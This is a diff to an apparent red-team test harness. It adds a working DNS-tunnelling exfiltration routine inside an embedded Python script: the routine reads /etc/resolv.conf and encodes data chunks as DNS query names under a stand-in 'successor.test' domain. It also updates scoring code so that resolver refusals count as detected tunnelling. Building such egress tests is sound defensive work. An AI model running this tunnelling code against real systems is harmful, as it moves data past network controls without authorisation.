@@ -75,6 +75,23 @@ public struct ExfiltrationScenario: RedTeamScenario {
                         label = base64.urlsafe_b64encode(data[off:off + 45]).rstrip(b"=")
                         name = b"".join(bytes([len(p)]) + p for p in [label, str(seq).encode(), b"x", b"exfil", b"test"]) + b"\\0"
                         s.sendto(struct.pack(">HHHHHH", seq & 0xFFFF, 0x0100, 1, 0, 0, 0) + name + b"\\0\\1\\0\\1", (host, int(port)))
+                    # The classic tunnel as well: the first pieces as names under the successor's domain, asked
+                    # of the system's resolver (which would relay them to the domain's server).
+                    try:
+                        resolver = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+                    except (OSError, IndexError):
+                        resolver = None
+                    if resolver:
+                        for seq, off in enumerate(range(0, min(len(data), 8 * 45), 45)):
+                            label = base64.urlsafe_b64encode(data[off:off + 45]).rstrip(b"=")
+                            name = b"".join(bytes([len(p)]) + p for p in [label, str(seq).encode(), b"t", b"successor", b"test"]) + b"\\0"
+                            s.sendto(struct.pack(">HHHHHH", 0x4000 + seq, 0x0100, 1, 0, 0, 0) + name + b"\\0\\1\\0\\1", (resolver, 53))
+                        s.settimeout(1.0)
+                        try:
+                            for _ in range(8):
+                                s.recvfrom(512)
+                        except OSError:
+                            pass
                     EOF
                     """),
             ScenarioTactic(
@@ -256,7 +273,11 @@ struct ExfiltrationWorld: ScenarioWorld {
         let refusals = events.filter { $0.kind == .decision && $0.details["decision"] == "deny" }.count
         let budget = events.filter { $0.kind == .budgetHit }.count
         let denied = events.filter { $0.kind == .denied }.count
-        if refusals > 0 { evidence.append("the egress door refused \(refusals) connection(s)") }
+        let tunnels = events.filter {
+            $0.kind == .decision && $0.details["decision"] == "deny" && $0.subject.hasPrefix("resolve ")
+        }.count
+        if refusals > tunnels { evidence.append("the egress door refused \(refusals - tunnels) connection(s)") }
+        if tunnels > 0 { evidence.append("the egress door's resolver refused \(tunnels) query(ies) as DNS tunnelling") }
         return ScenarioScore(
             harmed: !outside.isEmpty, measure: Double(outside.count * size),
             attemptsRecorded: refusals + budget + denied,
